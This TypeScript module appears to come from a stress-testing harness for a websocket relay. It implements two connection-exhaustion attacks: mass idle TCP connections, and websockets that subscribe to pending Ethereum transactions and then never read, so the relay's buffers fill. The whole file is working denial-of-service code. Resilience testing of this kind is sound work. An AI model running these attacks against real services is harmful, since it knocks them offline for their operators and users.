// Connections that an attacker opens and then leaves as they are: idle ones, and websockets that are never read.

import { once } from "node:events";
import { connect, type Socket } from "node:net";
import type { AttackParams } from "./attackKinds.ts";
import type { Tally } from "./flood.ts";

/** Kept so that nothing of them is collected; they end with the process. */
const held: Socket[] = [];
/** Connections that are opened at a time. */
const AT_ONCE = 256;
const PENDING = "service_partialPendingTransactions";
/** One that is not opened by then counts as refused, in ms. */
const OPEN_MS = 5_000;
/** No frame of a client may be unmasked; zeros mask nothing. */
const MASK = Buffer.alloc(4);

/** Opens `count` connections and says nothing on them. */
export function holdIdle(params: AttackParams): Promise<Tally> {
	return holding(params, async () => {
		const socket = await opened(params);
		if (socket === null) return "refused";
		socket.resume();
		return "accepted";
	});
}

/** Opens `count` websockets with `size` subscriptions to pending transactions each, and reads no byte of them. */
export function holdUnread(params: AttackParams): Promise<Tally> {
	return holding(params, async () => {
		const socket = await opened(params);
		if (socket === null) return "refused";
		socket.write(
			"GET /ws HTTP/1.1\r\nHost: relay\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" +
				"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
		);
		const [head] = (await Promise.race([
			once(socket, "data").catch(() => [Buffer.from("reset")]),
			once(socket, "close").then(() => [Buffer.from("closed")]),
		])) as [Buffer];
		// Nothing is read from here on: what comes fills the buffers of the system, then those of the relay.
		socket.pause();
		if (!head.includes(" 101 ")) return head.subarray(0, 12).toString();
		for (let i = 0; i < (params.size ?? 1); i++) {
			const body = { jsonrpc: "2.0", id: i, method: "eth_subscribe", params: [PENDING] };
			socket.write(frame(JSON.stringify(body)));
		}
		return "accepted";
	});
}

async function holding({ count }: AttackParams, open: () => Promise<string>): Promise<Tally> {
	const begun = performance.now();
	const outcomes: Record<string, number> = {};
	let left = count;
	const work = async (): Promise<void> => {
		while (left > 0) {
			left -= 1;
			const outcome = await open();
			outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
		}
	};
	await Promise.all(Array.from({ length: AT_ONCE }, work));
	return { sent: count, ms: Math.round(performance.now() - begun), outcomes };
}

/** Null where it is refused. */
function opened({ url, from }: AttackParams): Promise<Socket | null> {
	const { port, hostname } = new URL(url);
	return new Promise((resolve) => {
		const socket = connect({ port: Number(port), host: hostname, localAddress: from });
		const timer = setTimeout(() => socket.destroy(), OPEN_MS);
		socket.on("error", () => {});
		socket.once("close", () => resolve(null));
		socket.once("connect", () => {
			clearTimeout(timer);
			held.push(socket);
			resolve(socket);
		});
	});
}

/** A text frame: RFC 6455, section 5.2. */
function frame(text: string): Buffer {
	const body = Buffer.from(text);
	const head =
		body.length < 126
			? Buffer.from([0x81, 0x80 | body.length])
			: Buffer.from([0x81, 0x80 | 126, body.length >> 8, body.length & 0xff]);
	return Buffer.concat([head, MASK, body]);
}
